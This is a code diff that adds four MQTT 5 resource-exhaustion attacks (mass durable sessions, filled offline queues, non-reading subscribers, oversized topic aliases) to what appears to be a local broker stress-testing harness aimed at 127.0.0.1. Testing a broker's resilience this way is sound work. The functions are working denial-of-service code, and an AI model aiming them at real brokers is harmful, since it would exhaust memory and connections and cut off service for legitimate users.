@@ -13,6 +13,7 @@ import random
 import select
 import socket
 import ssl
+import struct
 import sys
 import time
 
@@ -302,6 +303,103 @@ def dtls_hellos(site, seconds):
     return flood(seconds, 300, site["coaps"], [wire.dtls_hello() for _ in range(3000)])
 
 
+def logged_in(site, name, durable=True, user=None):
+    """A client of the attacker, who has an account, in MQTT 5."""
+    sock = from_somewhere(socket.SOCK_STREAM, 0)
+    sock.settimeout(5)
+    sock.connect(("127.0.0.1", site["mqtt"]))
+    sock.sendall(wire.connect5(name, user or site["attacker"], site["password"], WEEK_S if durable else 0))
+    return sock
+
+
+def answer(sock, packets):
+    """The next packet that the broker sends; None if it has closed or says nothing."""
+    while True:
+        for packet in packets.take(b""):
+            return packet
+        try:
+            data = sock.recv(65536)
+        except OSError:
+            return None
+        if not data:
+            return None
+        packets.buffer += data
+
+
+def many_sessions(site, seconds):
+    """As many durable sessions as there may be, each left at once, with ten long subscriptions."""
+    pace = Pace(seconds, 600)
+
+    def one(number):
+        try:
+            with logged_in(site, f"many-{number}") as sock:
+                filters = b"".join(wire.text(f"{'x' * 500}/{number}/{at}") + b"\x01" for at in range(10))
+                sock.sendall(wire.packet(0x82, struct.pack(">HB", 1, 0) + filters))
+                packets = wire.Packets()
+                answer(sock, packets), answer(sock, packets)
+        except OSError:
+            pass
+
+    return spread(pace, one)
+
+
+def full_queues(site, seconds):
+    """60 sessions that are away, and messages of 100 kB for each of them."""
+    for number in range(60):
+        with logged_in(site, f"away-{number}") as sock:
+            sock.sendall(wire.packet(0x82, struct.pack(">HB", 1, 0) + wire.text(f"away/{number}/#") + b"\x01"))
+            packets = wire.Packets()
+            answer(sock, packets), answer(sock, packets)
+    publisher, packets = logged_in(site, "filler"), wire.Packets()
+    publisher.settimeout(30)
+    answer(publisher, packets)
+    payload = os.urandom(100_000)
+
+    def one(number):
+        topic = wire.text(f"away/{number % 60}/t")
+        publisher.sendall(wire.packet(0x32, topic + struct.pack(">HB", number % 60_000 + 1, 0) + payload))
+        if answer(publisher, packets) is None:
+            raise SystemExit("the broker has closed the connection")
+
+    return spread(Pace(seconds, 1_000), one)
+
+
+def deaf_readers(site, seconds):
+    """Subscribers that read nothing, and messages of 10 kB at QoS 0 for all of them."""
+    deaf = []
+    for number in range(500):
+        sock = logged_in(site, f"deaf-{number}", durable=False)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        sock.sendall(wire.packet(0x82, struct.pack(">HB", 1, 0) + wire.text("deaf/#") + b"\x00"))
+        deaf.append(sock)
+    publisher, payload = logged_in(site, "loud", durable=False), os.urandom(10_000)
+    publisher.settimeout(30)
+
+    def one(_):
+        publisher.sendall(wire.packet(0x30, wire.text("deaf/t") + b"\x00" + payload))
+
+    return spread(Pace(seconds, 100), one)
+
+
+def long_aliases(site, seconds):
+    """64 topic aliases of 64 KiB on each of 200 connections."""
+    socks = []
+
+    def one(number):
+        try:
+            if number % 64 == 0 and len(socks) < 200:
+                socks.append(logged_in(site, f"alias-{number}", durable=False))
+            topic = wire.text("t" * 65_000 + str(number))
+            properties = b"\x03\x23" + struct.pack(">H", number % 64 + 1)
+            socks[-1].sendall(wire.packet(0x30, topic + properties))
+        except OSError:
+            pass
+
+    return spread(Pace(seconds, 300), one)
+
+
+WEEK_S = 604_800
+
 ATTACKS = {
     "aborted logins, HTTP/1.1": (logins_http1, 2000 / 60),
     "aborted logins, HTTP/2": (logins_http2, 2000 / 60),
@@ -310,6 +408,10 @@ ATTACKS = {
     "wrong passwords, MQTT": (wrong_passwords, 60),
     "failing QUIC Initials": (initials, 10_000),
     "DTLS ClientHellos": (dtls_hellos, 300),
+    "many sessions": (many_sessions, 600),
+    "full queues": (full_queues, 1_000),
+    "deaf readers": (deaf_readers, 100),
+    "long aliases": (long_aliases, 300),
 }
 
 if __name__ == "__main__":
